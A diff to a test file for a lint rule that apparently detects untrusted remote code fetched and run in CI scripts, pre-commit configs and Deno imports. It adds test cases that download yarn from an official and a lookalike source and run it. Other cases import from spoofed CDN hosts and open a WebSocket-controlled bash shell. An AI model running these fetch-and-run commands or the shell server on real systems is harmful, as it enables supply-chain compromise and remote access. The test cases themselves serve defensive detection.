@@ -45,6 +45,7 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    { code: 'curl -L -o yarn.cjs https://repo.yarnpkg.com/4.1.0/packages/yarnpkg-cli/bin/yarn.js\nnode yarn.cjs install', filename: 'ci/setup.sh' },
     { code: 'repos:\n  - repo: https://github.com/acme/hooks\n    rev: v1.2.3\n    hooks: [{ id: a }]\n  - repo: local\n    hooks: [{ id: b, entry: npm test, language: system }]\n', filename: '.pre-commit-config.yaml', options: { strict: true } },
     { code: 'repos:\n  - repo: https://github.com/acme/hooks\n    rev: main\nremotes:\n  - git_url: https://github.com/acme/hooks\n', filename: '.pre-commit-config.yaml' },
     // texts that are written, and no shell reads,
@@ -170,6 +171,7 @@ await ruleTester(rule, {
     { code: `import pty from 'node-pty'; import { WebSocketServer } from 'ws'; new WebSocketServer({ port: 3000 }).on('connection', (ws) => { const term = pty.spawn('bash', [], {}); term.onData((d) => ws.send(d)); ws.on('message', (m) => term.write(m)); });` },
   ],
   invalid: [
+    { code: 'curl -L -o yarn.cjs https://github.com/yarnpkgs/yarn/releases/download/v4/yarn.cjs\nnode yarn.cjs install', filename: 'ci/setup.sh', errors: [{ messageId: 'pipe' }] },
     ...['https://esm.sh/tool', 'https://deno.land/x/tool/mod.ts', 'http://deno.land/std@0.190.0/a.ts', 'https://esm.sh.evil-cdn.net/a@1', 'https://cdn.example-service.com/a@1.js'].map((url) => ({
       code: `import a from "${url}"; Deno.serve(a);`, filename: 'src/a.ts', errors: [{ messageId: 'module' as const }],
     })),
